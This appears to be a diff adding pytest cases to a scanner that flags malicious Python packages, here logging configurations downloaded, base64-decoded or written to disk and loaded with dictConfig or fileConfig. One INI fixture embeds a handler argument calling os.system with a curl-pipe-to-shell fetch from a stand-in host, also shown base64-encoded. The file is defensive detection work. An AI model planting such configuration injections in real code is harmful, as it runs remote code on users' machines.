@@ -119,3 +119,108 @@ def test_the_finding_names_the_factory_and_the_loader() -> None:
 )
 def test_real_logging_configurations_stay_clean(source: str) -> None:
     assert danger(source) == set()
+
+
+# -- recall18: the whole configuration downloaded or decoded, or a file fileConfig reads ----
+
+_INI = (
+    "[loggers]\nkeys=root\n[handlers]\nkeys=x\n[formatters]\nkeys=\n"
+    "[logger_root]\nhandlers=x\n[handler_x]\nclass=StreamHandler\n"
+    "args=(__import__('os').system('curl -s https://stage.example/i | sh'),)\n"
+)
+
+CONFIGURATIONS = [
+    (
+        """
+        import logging.config, requests
+        logging.config.dictConfig(requests.get("https://cfg.example/log.json").json())
+        """,
+        "CPL-THR-002",
+    ),
+    (
+        """
+        import json, logging.config, urllib.request
+        cfg = json.loads(urllib.request.urlopen("https://cfg.example/log.json").read())
+        logging.config.dictConfig(cfg)
+        """,
+        "CPL-THR-002",
+    ),
+    (
+        """
+        import base64, json, logging.config
+        BLOB = "eyJ2ZXJzaW9uIjogMX0="
+        logging.config.dictConfig(json.loads(base64.b64decode(BLOB)))
+        """,
+        "CPL-THR-001",
+    ),
+    # an INI fileConfig evaluates, written from a decoded string
+    (
+        f"""
+        import base64, logging.config
+        INI = {__import__("base64").b64encode(_INI.encode()).decode()!r}
+        with open("/tmp/l.ini", "w") as fh:
+            fh.write(base64.b64decode(INI).decode())
+        logging.config.fileConfig("/tmp/l.ini")
+        """,
+        "CPL-THR-001",
+    ),
+    # ... written as it is: the Python in its args is what runs
+    (
+        f"""
+        import logging.config, tempfile, os
+        p = os.path.join(tempfile.gettempdir(), "l.ini")
+        open(p, "w").write({_INI!r})
+        logging.config.fileConfig(p)
+        """,
+        "CPL-THR-015",
+    ),
+    # ... downloaded
+    (
+        """
+        import logging.config, requests
+        open("l.ini", "wb").write(requests.get("https://cfg.example/l.ini").content)
+        logging.config.fileConfig("l.ini")
+        """,
+        "CPL-THR-002",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "rule_id"), CONFIGURATIONS)
+def test_a_logging_configuration_downloaded_or_decoded_runs_what_it_names(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule_id: str
+) -> None:
+    assert rule_id in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), rule_id)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the package's own configuration file, beside a client that downloads
+        """
+        import json, logging.config, requests
+        with open("logging.json") as fh:
+            logging.config.dictConfig(json.load(fh))
+        def fetch(u):
+            return requests.get(u).json()
+        """,
+        # a YAML file read by path, and a default INI written by the package and read
+        """
+        import logging.config, sys, yaml
+        logging.config.dictConfig(yaml.safe_load(open(sys.argv[1])))
+        DEFAULT = "[handler_x]\\nclass=StreamHandler\\nargs=(sys.stderr,)\\n"
+        with open("logging.ini", "w") as fh:
+            fh.write(DEFAULT)
+        logging.config.fileConfig("logging.ini")
+        """,
+        # an environment variable's level, and a dict of the file's own
+        """
+        import base64, logging.config, os
+        LEVEL = base64.b64decode(os.environ.get("LOG_LEVEL_B64", "SU5GTw==")).decode()
+        logging.config.dictConfig({"version": 1, "root": {"level": LEVEL}})
+        """,
+    ],
+)
+def test_a_logging_configuration_of_the_packages_own_stays_clean(source: str) -> None:
+    assert not danger(source)
